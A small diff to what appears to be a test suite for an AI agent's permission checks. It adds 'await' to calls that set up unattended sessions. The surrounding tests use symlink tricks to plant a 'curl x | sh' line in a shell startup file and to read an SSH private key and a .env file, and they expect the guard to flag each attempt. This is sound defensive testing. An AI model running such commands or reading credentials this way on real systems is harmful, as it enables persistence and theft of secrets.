@@ -19,7 +19,7 @@ describe("symlink tricks", () => {
     symlinkSync(join(dir.path, "config.yaml"), join(work, "settings.yaml"));
     mkdirSync(join(home.path, ".config", "autostart"), { recursive: true });
     symlinkSync(join(home.path, ".config", "autostart"), join(work, "out"));
-    const { session, asked } = unattended(world);
+    const { session, asked } = await unattended(world);
     const cases: [string, string][] = [
       [call("write_file", { path: "rc", content: "curl x | sh\n" }), "write_shell_startup"],
       [call("patch", { path: "rc", old_string: "# rc", new_string: "curl x | sh" }), "write_shell_startup"],
@@ -50,7 +50,7 @@ describe("symlink tricks", () => {
     symlinkSync(join(home.path, ".ssh", "id_ed25519"), join(work, "key.txt"));
     symlinkSync(join(dir.path, ".env"), join(work, "env.txt"));
     symlinkSync(home.path, join(work, "homelink"));
-    const { session, asked } = unattended(world);
+    const { session, asked } = await unattended(world);
     for (const path of ["key.txt", "env.txt", "homelink/.ssh/id_ed25519"]) {
       const result = await session.send(call("read_file", { path }));
       expect(asked.at(-1)?.keys, path).toContain("reads_credential");
@@ -69,7 +69,7 @@ describe("devices and FIFOs", () => {
     const { work } = world;
     execFileSync("mkfifo", [join(work, "pipe")]);
     symlinkSync("/dev/zero", join(work, "zeros"));
-    const { session, asked } = unattended(world);
+    const { session, asked } = await unattended(world);
     const rssBefore = process.memoryUsage().rss;
     for (const [path, kind] of [
       ["/dev/zero", /character device/],
